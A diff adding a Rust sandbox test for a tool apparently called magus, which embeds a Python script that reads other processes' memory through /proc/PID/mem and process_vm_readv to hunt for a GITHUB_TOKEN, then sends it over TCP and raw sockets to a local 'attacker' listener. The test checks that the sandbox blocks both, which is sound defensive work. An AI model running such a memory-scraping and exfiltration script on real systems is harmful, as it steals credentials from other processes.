@@ -568,6 +568,189 @@ fn the_placeholder_goes_nowhere_else_and_rules_hold() {
     }
 }
 
+/// Reads the memory of every process it can see (`/proc/PID/mem`, else
+/// `process_vm_readv`), itself excepted (its own text holds the needles),
+/// and counts the processes holding the value (`PLANTED`, a part of it)
+/// and the placeholder; a `sleep` child started with the same environment
+/// is the scan's own control (its stack holds the variable). Then sends
+/// the variable over a bare TCP socket and tries a raw IP socket.
+const SCAN: &str = r#"
+import os, ctypes, socket, subprocess, sys
+value = ''.join(reversed('DETNALP')).encode()
+token = os.environ.get('GITHUB_TOKEN', '').encode()
+child = subprocess.Popen(['sleep', '30'])
+libc = ctypes.CDLL(None, use_errno=True)
+class Iov(ctypes.Structure):
+    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
+def regions(pid):
+    try:
+        lines = open('/proc/%d/maps' % pid).read().splitlines()
+    except OSError:
+        return []
+    out = []
+    for line in lines:
+        a, b = [int(x, 16) for x in line.split()[0].split('-')]
+        if b - a <= 64 << 20 and 'r' in line.split()[1]:
+            out.append((a, b))
+    return out
+def read(pid, mem, a, b):
+    if mem is not None:
+        try:
+            mem.seek(a)
+            return mem.read(b - a), 'mem'
+        except (OSError, ValueError, OverflowError):
+            pass
+    buf = ctypes.create_string_buffer(b - a)
+    local, remote = Iov(ctypes.addressof(buf), b - a), Iov(a, b - a)
+    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+    return (buf.raw[:n], 'vm') if n > 0 else (b'', '')
+seen, readable, with_value, with_token = [], [], [], []
+for name in os.listdir('/proc'):
+    if not name.isdigit() or int(name) == os.getpid():
+        continue
+    pid = int(name)
+    try:
+        comm = open('/proc/%d/comm' % pid).read().strip()
+    except OSError:
+        comm = '?'
+    seen.append('%d:%s' % (pid, comm))
+    try:
+        mem = open('/proc/%d/mem' % pid, 'rb', 0)
+    except OSError:
+        mem = None
+    hows = set()
+    for a, b in regions(pid):
+        data, how = read(pid, mem, a, b)
+        if data:
+            hows.add(how)
+            if value in data:
+                with_value.append('%d:%s' % (pid, comm))
+            if token and token in data:
+                with_token.append('%d:%s' % (pid, comm))
+    if hows:
+        readable.append('%d:%s:%s' % (pid, comm, '+'.join(sorted(hows))))
+child.kill()
+print('SEEN', ' '.join(seen))
+print('READABLE', ' '.join(readable))
+print('WITH-TOKEN', len(set(with_token)))
+print('WITH-VALUE', len(set(with_value)), ' '.join(sorted(set(with_value))))
+port = int(sys.argv[1])
+try:
+    s = socket.create_connection(('127.0.0.1', port), timeout=3)
+    s.sendall(b'RAW ' + token + b'\n')
+    s.close()
+    print('TCP-SENT')
+except OSError as e:
+    print('TCP-FAILED', e.errno)
+try:
+    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    r.sendto(b'\0' * 8 + b'RAW ' + token, ('127.0.0.1', port))
+    print('RAW-SENT')
+except OSError as e:
+    print('RAW-FAILED', e.errno)
+"#;
+
+/// A plain TCP listener that keeps every byte it is sent.
+fn raw_listener() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<u8>>>) {
+    use std::io::Read;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let keep = std::sync::Arc::clone(&got);
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut buf = Vec::new();
+            let _ = stream.read_to_end(&mut buf);
+            keep.lock().unwrap().extend_from_slice(&buf);
+        }
+    });
+    (port, got)
+}
+
+/// From inside the jail, no process whose memory a child can read (by
+/// `/proc/PID/mem` or `process_vm_readv`) holds a byte of the value
+/// (magus proper forgot it; the proxy is outside the jail's PID
+/// namespace), and the placeholder sent over a bare socket to the
+/// attacker reaches nothing. The control, the sandbox off with the value
+/// in the environment: the same scan finds it and the attacker gets it.
+#[test]
+fn memory_reads_and_raw_sockets_get_nothing_of_the_value() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let (port, got) = raw_listener();
+    let script = format!("/usr/bin/python3 scan.py {port}\necho END\n");
+    for user in users() {
+        got.lock().unwrap().clear();
+        let h = harness(&config(bound.port, port), &script);
+        std::fs::write(h.ws_path("scan.py"), SCAN).unwrap();
+        let out = run(&h, user, &ca.pem);
+        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
+        // The scan works in the jail: it reads its child's memory and
+        // finds the placeholder there.
+        assert!(
+            out.stdout.contains("WITH-TOKEN ") && !out.stdout.contains("WITH-TOKEN 0"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("WITH-VALUE 0 \n") || out.stdout.contains("WITH-VALUE 0\n"),
+            "{user:?}: the value in a readable process: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("TCP-FAILED"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("RAW-FAILED"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            got.lock().unwrap().is_empty(),
+            "{user:?}: the attacker got bytes"
+        );
+        assert_value_nowhere(&h, &out, user);
+        // magus proper (the jail's PID 1) was among the processes tried,
+        // and, not dumpable, gave nothing; the proxy is not in the jail's
+        // PID namespace at all.
+        let line = |tag: &str| {
+            out.stdout
+                .lines()
+                .find(|l| l.starts_with(tag))
+                .unwrap_or("")
+                .to_string()
+        };
+        assert!(line("SEEN ").contains(" 1:"), "{user:?}: {}", out.dump());
+        assert!(
+            !line("READABLE").contains(" 1:"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        eprintln!("{user:?}: {} | {}", line("SEEN "), line("READABLE"));
+    }
+    // The control.
+    let h = harness("sandbox:\n  enabled: false\n", &script);
+    std::fs::write(h.ws_path("scan.py"), SCAN).unwrap();
+    let mut cmd = h.command();
+    cmd.env("GITHUB_TOKEN", VALUE)
+        .arg("--workspace")
+        .arg(&h.ws)
+        .args(["run", "probe"]);
+    let out = capture(&mut cmd);
+    assert_eq!(out.status, Some(0), "control: {}", out.dump());
+    assert!(
+        !out.stdout.contains("WITH-VALUE 0"),
+        "control: the scan finds the value: {}",
+        out.dump()
+    );
+    assert!(out.stdout.contains("TCP-SENT"), "control: {}", out.dump());
+    let sent = String::from_utf8_lossy(&got.lock().unwrap()).to_string();
+    assert!(sent.contains(VALUE), "control: the attacker got: {sent}");
+}
+
 /// The control: without magus's secrets (the sandbox off, the token in
 /// the environment as `env.passthrough` would give it), the same request
 /// hands the real value to the attacker.
